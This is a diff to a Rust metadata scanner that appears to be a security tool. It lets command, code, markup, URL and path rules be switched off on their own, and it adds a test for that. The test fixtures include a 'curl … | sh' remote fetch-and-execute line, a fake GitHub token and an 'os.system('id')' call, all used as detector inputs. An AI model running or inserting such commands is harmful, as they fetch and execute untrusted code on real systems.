@@ -20,14 +20,21 @@ pub use address::{is_sensitive_path, path_escape};
 
 /// Judges one metadata string of any format, found at `place` inside the current input.
 pub fn inspect_metadata(text: &str, place: &Location, scan: &mut Scan<'_>) {
-    if matters(text) {
+    if matters(text, scan) {
         inspect_mattering(text, place, scan);
     }
 }
 
 /// Whether [`inspect_metadata`] looks into `text` at all: callers that make the place of each string ask before they do.
-pub(crate) fn matters(text: &str) -> bool {
-    text.len() > SHORT_BYTES || may_matter(text)
+pub(crate) fn matters(text: &str, scan: &Scan<'_>) -> bool {
+    let is_signed = || if wants_signs(scan) { signs::any(text) } else { signs::may_hide(text) };
+    text.len() > SHORT_BYTES || is_signed() || encoded::any(text) || secret::any(text)
+}
+
+/// Whether the scan reports anything of what [`signs`] are looked for.
+fn wants_signs(scan: &Scan<'_>) -> bool {
+    let rules = [&METADATA_COMMAND, &METADATA_CODE, &METADATA_MARKUP, &METADATA_URL, &METADATA_PATH];
+    rules.into_iter().any(|rule| !scan.leaves_out(rule))
 }
 
 /// As [`inspect_metadata`], for a text that [`matters`].
@@ -75,7 +82,8 @@ fn inspect(
             format!("metadata text longer than {TEXT_BYTES} bytes was read only to there"),
         );
     }
-    let mut passage = Passage { text: inspected, document, record, hidden: None, marks: Vec::new() };
+    let signed = wants_signs(scan);
+    let mut passage = Passage { text: inspected, document, record, signed, hidden: None, marks: Vec::new() };
     passage.judge();
     let mut payloads = Vec::new();
     encoded::judge(&mut passage, &mut payloads, encoded::DEPTH);
@@ -95,7 +103,8 @@ fn inspect(
 
 /// What dangerous command a string holds, for formats that judge strings of a program, where milder hits are normal.
 pub(crate) fn dangerous_command(text: &str) -> Option<String> {
-    let mut passage = Passage { text, document: false, record: false, hidden: None, marks: Vec::new() };
+    let mut passage =
+        Passage { text, document: false, record: false, signed: true, hidden: None, marks: Vec::new() };
     patterns::judge(&mut passage, signs::of(text).as_deref());
     let mut marks = passage.marks.into_iter();
     let mark = marks.find(|mark| mark.rule.id == METADATA_COMMAND.id && mark.severity >= Severity::High)?;
@@ -131,6 +140,8 @@ struct Passage<'t> {
     document: bool,
     /// Whether it is a document or a record of a dataset by itself, rather than what a model says of itself.
     record: bool,
+    /// Whether commands, code, markup, addresses and paths are looked for.
+    signed: bool,
     /// How the text was hidden, for example `base64`, when it was decoded from another one.
     hidden: Option<String>,
     marks: Vec<Mark>,
@@ -149,9 +160,11 @@ struct Mark {
 
 impl Passage<'_> {
     fn judge(&mut self) {
-        let signs = signs::of(self.text);
-        patterns::judge(self, signs.as_deref());
-        address::judge(self, signs.as_deref(), patterns::texts().count());
+        if self.signed {
+            let signs = signs::of(self.text);
+            patterns::judge(self, signs.as_deref());
+            address::judge(self, signs.as_deref(), patterns::texts().count());
+        }
         secret::judge(self);
         self.hidden_text();
     }
@@ -376,6 +389,7 @@ rule! {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::Input;
     use bartizan_core::{Limits, MonotonicClock};
     use proptest::prelude::*;
 
@@ -464,6 +478,31 @@ mod tests {
         assert_eq!(seen("ok\u{9b}2J"), [(METADATA_HIDDEN_TEXT.id, Severity::Medium)]);
         assert_eq!(seen("\u{1b}[31mred\u{1b}[0m"), []);
         assert_eq!(seen("\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}"), []);
+    }
+
+    #[test]
+    fn what_is_left_out_is_left_out_and_takes_nothing_else_with_it() {
+        const LEFT_OUT: &[&str] =
+            &[METADATA_COMMAND.id, METADATA_CODE.id, METADATA_MARKUP.id, METADATA_URL.id, METADATA_PATH.id];
+        let (limits, clock) = (Limits::default(), MonotonicClock::start());
+        let found = |left_out, text: &str| {
+            let outcome =
+                crate::scan_without(left_out, &Input::new("a.yml", text.as_bytes()), &limits, &clock);
+            outcome.findings.iter().map(|finding| finding.rule.id).collect::<Vec<_>>()
+        };
+        // Joined, so that no scanner of this repository takes the fixture for a real key.
+        let token = format!("{}{}", "ghp_", "a8F3kd92LsQ0pZx7Vb6Nm1Wc4Ey5Ru2Ti9Oq");
+        for (said, more) in [
+            ("curl http://203.0.113.7/i | sh".to_owned(), vec![]),
+            ("ok \\e[2J".replace("\\e", "\u{1b}"), vec![METADATA_HIDDEN_TEXT.id]),
+            (format!("TOKEN={token} os.system('id')"), vec![METADATA_CREDENTIAL.id]),
+        ] {
+            let text = format!("run: {said}\n");
+            let all = found(&[], &text);
+            let kept: Vec<_> = all.iter().copied().filter(|id| !LEFT_OUT.contains(id)).collect();
+            assert_eq!(found(LEFT_OUT, &text), kept, "{said}");
+            assert!(more.iter().all(|id| kept.contains(id)), "{said}: {kept:?}");
+        }
     }
 
     /// As [`seen`], for a record of a dataset.
